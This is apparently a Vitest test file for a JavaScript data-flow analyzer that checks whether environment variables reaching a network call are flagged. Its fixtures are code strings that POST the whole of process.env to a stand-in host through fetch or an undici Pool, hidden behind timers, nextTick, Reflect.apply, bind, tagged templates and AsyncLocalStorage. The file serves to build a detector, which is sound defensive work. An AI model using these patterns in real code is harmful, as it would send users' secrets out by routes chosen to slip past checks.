import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const SEND = "(x) => fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(x) })";

function sends(code: string): boolean {
  return analyzeJs(code).flow.flows.some(({ labels }) => (labels & LABEL.envAll) !== 0);
}

test.each([
  ['what a timer calls', `const send = ${SEND}; setTimeout(send, 9, process.env);`],
  ['what the next turn calls', `const send = ${SEND}; process.nextTick(send, process.env);`],
  ['what Reflect calls', `const send = ${SEND}; Reflect.apply(send, null, [process.env]);`],
  ['what is bound to it', `const send = ${SEND}; setTimeout(send.bind(null, process.env), 9);`],
  ['a tag', `const send = (texts, ...all) => (${SEND})(all); send\`a\${process.env}\`;`],
  [
    'what runs beside a storage',
    `const { AsyncLocalStorage } = require('async_hooks'); const store = new AsyncLocalStorage();
     store.run(process.env, () => (${SEND})(store.getStore()));`,
  ],
])('%s is given what goes along', (_what, code) => {
  expect(sends(code)).toBe(true);
});

test('what a timer waits is given to nobody', () => {
  expect(sends(`const send = ${SEND}; setTimeout(send, process.env.length);`)).toBe(false);
});

test('a pool of undici sends where it is made for', () => {
  const { flows } = analyzeJs(
    `const { Pool } = require('undici'); const pool = new Pool('https://a.weir.test'); pool.request({ path: '/', method: 'POST', body: JSON.stringify(process.env) });`,
  ).flow;
  expect(flows.map(({ targets }) => targets.map(({ text }) => text))).toEqual([['https://a.weir.test']]);
});
